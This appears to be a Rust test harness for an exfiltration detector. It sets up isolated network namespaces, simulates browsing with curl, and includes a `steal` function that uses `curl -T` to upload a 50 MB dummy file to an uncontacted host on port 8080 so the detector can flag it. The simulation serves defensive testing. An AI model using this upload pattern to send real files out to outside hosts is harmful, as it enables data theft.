//! The small world of the demo: a client behind a gateway, sites that it visits, a host that takes
//! stolen data. Everything lives in namespaces of its own and goes with this value.

use std::fs;
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use detector_tests::{
    Background, Scratch, Topology, poll_until, wait_for_tcp_listener, wait_for_udp_listener,
};

const START: Duration = Duration::from_secs(10);
const RESOLVER: &str = "203.0.113.53";
/// What the client's line sends: without it fifty megabytes would be gone in a blink.
const LINE: &str = "rate 100mbit burst 128kb latency 50ms";
pub(super) const STOLEN_BYTES: u64 = 50_000_000;
pub(super) const DROP_PORT: u16 = 8080;
/// Longer than the whole upload takes.
const UPLOAD_SECS: &str = "8";

/// What people do all day: name, and the arguments of curl.
const BROWSING: [&[&str]; 4] = [
    &[
        "http://www.example/page-48000",
        "http://www.example/style-9000",
        "http://www.example/picture-310000",
    ],
    &[
        "http://news.example/page-120000",
        "http://news.example/picture-85000",
        "http://news.example/script-44000",
    ],
    &["http://files.example/download-20000000"],
    &["http://www.example/page-61000", "http://www.example/picture-150000"],
];

pub(super) struct Scene {
    // Ends before its namespace, and the namespaces before the folder.
    _servers: Background,
    pub(super) network: Topology,
    folder: Scratch,
}

impl Scene {
    pub(super) fn open() -> Result<Self> {
        let folder = Scratch::new("demo")?;
        folder.write("stolen", vec![0xa5; STOLEN_BYTES as usize])?;
        let (run, state) = (folder.join("run"), folder.join("state"));
        // What is pinned would be left where the demo is interrupted.
        let config =
            format!("runtime_dir = {run:?}\nstate_dir = {state:?}\n[kernel]\npin = false\n");
        folder.write("detector.toml", config)?;
        let script = folder.write("servers.py", include_str!("servers.py"))?;
        let network = Topology::simple()?;
        let line = format!("qdisc add dev {} root tbf {LINE}", Topology::CLIENT_INTERFACE);
        network.client.run("tc", line.split_whitespace())?;
        network.client.set_resolver(RESOLVER)?;
        let servers = network.server().spawn("python3", [script.as_path(), folder.path()])?;
        for port in [80, DROP_PORT] {
            wait_for_tcp_listener(network.server(), port, START)
                .with_context(|| format!("the servers did not start: {}", servers.output()))?;
        }
        wait_for_udp_listener(network.server(), 53, START)?;
        Ok(Self { _servers: servers, network, folder })
    }

    /// A configuration with folders of its own and the defaults, so that this machine's does not
    /// count.
    pub(super) fn configuration(&self) -> PathBuf {
        self.folder.join("detector.toml")
    }

    /// Visits pages, downloads, looks names up, pings. Returns the bytes that came back.
    pub(super) fn browse(&self) -> Result<u64> {
        let mut bytes = 0;
        for urls in BROWSING {
            bytes += self.fetch(urls)?;
        }
        self.network.client.run("ping", ["-q", "-c", "5", "-i", "0.2", "203.0.113.10"])?;
        Ok(bytes)
    }

    /// Downloads, and returns the bytes that came.
    pub(super) fn fetch(&self, urls: &[&str]) -> Result<u64> {
        let mut arguments = vec!["-sS", "--max-time", "10", "-w", "%{size_download}\n"];
        for url in urls {
            arguments.extend(["-o", "/dev/null", url]);
        }
        let sizes = self.network.client.run("curl", arguments)?;
        let sizes: Vec<u64> = sizes.lines().filter_map(|line| line.parse().ok()).collect();
        ensure!(sizes.len() == urls.len(), "{} of {} downloads arrived", sizes.len(), urls.len());
        Ok(sizes.iter().sum())
    }

    /// Starts to send the stolen file to a host that the client never contacted.
    pub(super) fn steal(&self, host: &str, name: &str) -> Result<Background> {
        let url = format!("http://{host}:{DROP_PORT}/{name}");
        let file = self.folder.join("stolen").display().to_string();
        let arguments = ["-sS", "--max-time", UPLOAD_SECS, "-T", file.as_str(), url.as_str()];
        self.network.client.spawn("curl", arguments)
    }

    /// What the receiver itself says it has, once it gets no more.
    pub(super) fn received(&self, name: &str) -> Result<u64> {
        let count = || fs::read_to_string(self.folder.join(name)).ok()?.parse::<u64>().ok();
        let mut last = None;
        let mut same = 0;
        poll_until(Duration::from_secs(5), || {
            let now = count();
            same = if now == last { same + 1 } else { 0 };
            last = now;
            (same >= 20).then_some(())
        })?;
        Ok(last.unwrap_or(0))
    }
}
